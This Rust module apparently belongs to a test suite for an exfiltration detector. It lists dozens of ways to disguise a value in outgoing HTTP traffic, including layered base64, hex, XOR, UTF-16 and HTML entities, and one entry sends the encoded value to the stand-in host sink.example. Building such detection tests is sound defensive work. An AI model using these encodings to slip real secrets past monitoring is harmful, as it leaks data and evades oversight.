//! Text written with other characters.

use data_encoding::{
    BASE32, BASE32_NOPAD, BASE64, BASE64_MIME, BASE64_NOPAD, BASE64URL, BASE64URL_NOPAD, HEXLOWER, HEXUPPER,
};

use crate::{Way, get, post};

pub const WAYS: &[Way] = &[
    ("percent twice", |value| post(format!("d={}", percent(&percent(value))))),
    ("percent three times", |value| post(format!("d={}", percent(&percent(&percent(value)))))),
    ("percent, every character", |value| {
        post(format!("d={}", value.bytes().map(|byte| format!("%{byte:02x}")).collect::<String>()))
    }),
    ("base64", |value| post(field(&BASE64.encode(value.as_bytes())))),
    ("base64 alone", |value| post(BASE64.encode(value.as_bytes()))),
    ("base64 without padding", |value| post(field(&BASE64_NOPAD.encode(value.as_bytes())))),
    ("base64 in lines", |value| {
        post(BASE64_MIME.encode(format!("{{\"text\":\"{value} {value} {value}\"}}").as_bytes()))
    }),
    ("base64url", |value| post(field(&BASE64URL.encode(value.as_bytes())))),
    ("base64url without padding", |value| {
        get(&format!("https://sink.example/{}", BASE64URL_NOPAD.encode(value.as_bytes())))
    }),
    ("base64 of a text, one off", |value| post(field(&BASE64.encode(format!("x{value}").as_bytes())))),
    ("base64 of a text, two off", |value| post(field(&BASE64.encode(format!("xy{value} end").as_bytes())))),
    ("base64 in a longer text", |value| post(format!("token {} was sent", BASE64.encode(value.as_bytes())))),
    ("base64 behind a prefix", |value| post(format!("d=v1.{}", BASE64URL_NOPAD.encode(value.as_bytes())))),
    ("base64 whose + became a space", |value| {
        post(format!("d={}", BASE64.encode(format!("~~~???>>>{value}").as_bytes()).replace('+', " ")))
    }),
    ("base64 twice", |value| post(field(&BASE64.encode(BASE64.encode(value.as_bytes()).as_bytes())))),
    ("base64 three times", |value| {
        post(field(&BASE64.encode(BASE64.encode(BASE64.encode(value.as_bytes()).as_bytes()).as_bytes())))
    }),
    ("base64 of percent", |value| post(field(&BASE64.encode(percent(value).as_bytes())))),
    ("a data address", |value| {
        post(format!("{{\"src\":\"data:text/plain;base64,{}\"}}", BASE64.encode(value.as_bytes())))
    }),
    ("base32", |value| post(field(&BASE32.encode(value.as_bytes())))),
    ("base32 without padding", |value| post(field(&BASE32_NOPAD.encode(value.as_bytes())))),
    ("base32 in small letters", |value| post(field(&BASE32_NOPAD.encode(value.as_bytes()).to_lowercase()))),
    ("base58", |value| post(field(&base58(value.as_bytes())))),
    ("hex", |value| post(field(&HEXLOWER.encode(value.as_bytes())))),
    ("HEX", |value| post(field(&HEXUPPER.encode(value.as_bytes())))),
    ("hex twice", |value| post(field(&HEXLOWER.encode(HEXLOWER.encode(value.as_bytes()).as_bytes())))),
    ("hex of base64", |value| post(field(&HEXLOWER.encode(BASE64.encode(value.as_bytes()).as_bytes())))),
    ("Ascii85", |value| post(format!("{{\"d\":{}}}", serde_json::json!(format!("<~{}~>", ascii85(value.as_bytes())))))),
    ("JSON with every character escaped", |value| {
        let escaped: String = value.encode_utf16().map(|unit| format!("\\u{unit:04x}")).collect();
        post(format!("{{\"user\":\"{escaped}\"}}"))
    }),
    ("HTML entities", |value| post(format!("<p>{}</p>", value.replace('@', "&#64;").replace('.', "&#x2e;")))),
    ("HTML entities throughout", |value| {
        post(format!("<p>{}</p>", value.chars().map(|c| format!("&#{};", c as u32)).collect::<String>()))
    }),
    ("quoted-printable", |value| {
        let text: String = value.replace('@', "=40").replace('.', "=2E");
        post(format!("Content-Transfer-Encoding: quoted-printable\r\n\r\n{}=\r\n{}", &text[..12], &text[12..]))
    }),
    ("UTF-16, little end first", |value| post(value.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())),
    ("UTF-16, big end first", |value| post(value.encode_utf16().flat_map(u16::to_be_bytes).collect::<Vec<u8>>())),
    ("UTF-16 with a mark", |value| {
        post([&[0xff, 0xfe][..], &value.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>()].concat())
    }),
    ("base64 of UTF-16", |value| {
        post(field(&BASE64.encode(&value.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>())))
    }),
    ("capitals", |value| post(field(&value.to_uppercase()))),
    ("small letters", |value| post(field(&value.to_lowercase()))),
    ("reversed", |value| post(field(&value.chars().rev().collect::<String>()))),
    ("base64, reversed", |value| post(field(&BASE64.encode(value.as_bytes()).chars().rev().collect::<String>()))),
    ("base64 of the reversed", |value| post(field(&BASE64.encode(value.chars().rev().collect::<String>().as_bytes())))),
    ("XOR with one byte", |value| {
        post(format!("{{\"user\":\"{value}\",\"id\":7}}").bytes().map(|byte| byte ^ 0x5a).collect::<Vec<u8>>())
    }),
    ("base64 of XOR with one byte", |value| {
        let text = format!("{{\"user\":\"{value}\",\"id\":7}}");
        post(field(&BASE64.encode(&text.bytes().map(|byte| byte ^ 0x2f).collect::<Vec<u8>>())))
    }),
];

/// Every byte but letters and digits percent-coded.
pub fn percent(text: &str) -> String {
    let coded = |byte: u8| match byte.is_ascii_alphanumeric() {
        true => char::from(byte).to_string(),
        false => format!("%{byte:02X}"),
    };
    text.bytes().map(coded).collect()
}

/// A form with one field.
pub fn field(text: &str) -> String {
    format!("v=1&d={}&t=2", percent(text))
}

fn base58(bytes: &[u8]) -> String {
    const DIGITS: &[u8; 58] = b"123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz";
    let mut digits: Vec<u32> = Vec::new();
    for byte in bytes {
        let mut carry = u32::from(*byte);
        for digit in &mut digits {
            carry += *digit << 8;
            *digit = carry % 58;
            carry /= 58;
        }
        while carry > 0 {
            digits.push(carry % 58);
            carry /= 58;
        }
    }
    digits.iter().rev().map(|digit| char::from(DIGITS[*digit as usize])).collect()
}

fn ascii85(bytes: &[u8]) -> String {
    let mut text = String::new();
    for chunk in bytes.chunks(4) {
        let mut block = [0; 4];
        block[..chunk.len()].copy_from_slice(chunk);
        let mut number = u32::from_be_bytes(block);
        let mut digits = ['!'; 5];
        for digit in digits.iter_mut().rev() {
            *digit = char::from(b'!' + (number % 85) as u8);
            number /= 85;
        }
        text.extend(&digits[..=chunk.len()]);
    }
    text
}
